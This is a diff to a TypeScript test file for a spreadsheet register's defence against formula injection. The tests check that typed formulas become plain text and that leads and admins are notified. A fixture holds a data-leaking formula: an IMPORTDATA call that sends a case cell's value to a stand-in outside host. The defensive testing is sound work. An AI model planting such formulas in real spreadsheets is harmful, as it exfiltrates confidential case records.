@@ -1,13 +1,14 @@
-/** A formula that a person typed into a register becomes text within the hour. Leads and admins are told, without anything from it. */
+/** A formula that a person typed becomes text at the next look, and no one's edit. Leads and admins are told, without anything from it. */
 import { expect, test } from "vitest";
 import { byHand } from "../day/damage";
 import { Day } from "../day/day";
-import { call, edit, minutes, reportOn, tick } from "../day/events";
+import { call, edit, editOf, minutes, noEditTrigger, reportOn, submit, tick } from "../day/events";
 import { mails, recipients } from "../day/look";
 import { admin, lead } from "../day/people";
 
 const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
 const told = (day: Day) => mails(day.out(), "formula-found");
+const asked = (day: Day) => mails(day.out(), "typed-by-another");
 
 /** The cells of a tab of the main register that hold a formula, as the sheet keeps them. */
 function formulas(day: Day): readonly string[] {
@@ -32,7 +33,7 @@ test.each<[object, ["cases" | "checklist", string?]]>([
 ])("in notes: %j", async (event, where) => {
   const day = await Day.begin();
   day.play(alex, event);
-  day.play({ advance: "PT65M" });
+  day.play(minutes(11));
   expect(formulas(day)).toEqual([]);
   const mails = told(day);
   expect(recipients(mails)).toEqual([admin, lead]);
@@ -43,6 +44,8 @@ test.each<[object, ["cases" | "checklist", string?]]>([
   expect(JSON.stringify(lines)).not.toMatch(/IMPORT|Alex/);
   day.play({ advance: "PT2H" });
   expect(told(day)).toHaveLength(2);
+  // The repair is no one's edit.
+  expect(asked(day)).toEqual([]);
   // What was typed is kept as text, with a note, and accepted like any text.
   const [tab, key] = where;
   const row = day.rowOf(tab, "26-0001", key);
@@ -71,7 +74,7 @@ test("in a tab of a person's own, whose title stands in no mail", async () => {
   ]);
   expect(formulas(day)).toEqual([leaks]);
   day.announce({ sheetId: 900, rowStart: 8, rowEnd: 8, columnStart: 3, columnEnd: 3 });
-  day.play({ advance: "PT65M" });
+  day.play(minutes(11));
   expect(formulas(day)).toEqual([]);
   const [mail] = told(day);
   expect(mail?.text).toContain("A tab of your own, cell C8");
@@ -96,3 +99,28 @@ test.each(["before", "after", "stop"] as const)(
     expect(told(day).length).toBeGreaterThanOrEqual(2);
   },
 );
+
+test("of an edit that no trigger told of; the next one is found too", async () => {
+  const day = await Day.begin();
+  day.playClean(alex, noEditTrigger, edit({ notes: leaks }), minutes(40));
+  expect([formulas(day), told(day)]).toEqual([[], [expect.anything(), expect.anything()]]);
+  day.playClean(tick(call, { notes: leaks }), minutes(40));
+  expect([formulas(day), told(day)]).toEqual([[], expect.objectContaining({ length: 4 })]);
+});
+
+test("in a sealed register: within the hour, to its audience alone", async () => {
+  const day = await Day.begin();
+  const sealed = submit({ recipientMayBeInvolved: "contact" });
+  day.playClean(sealed, minutes(10), editOf("26-0001", { notes: leaks }, "lead", "sealed"));
+  day.playClean({ advance: "PT65M" });
+  expect(told(day).map(({ to }) => to)).toEqual([[lead]]);
+  day.playClean({ advance: "PT1H" });
+  expect([told(day).length, asked(day)]).toEqual([1, []]);
+});
+
+test("two edits within minutes, around a look: both are found", async () => {
+  const day = await Day.begin();
+  day.playClean(alex, edit({ notes: "Seen." }), minutes(6), edit({ notes: leaks }), minutes(1));
+  day.playClean(minutes(4), tick(call, { notes: leaks }), minutes(15));
+  expect([formulas(day), asked(day)]).toEqual([[], []]);
+});
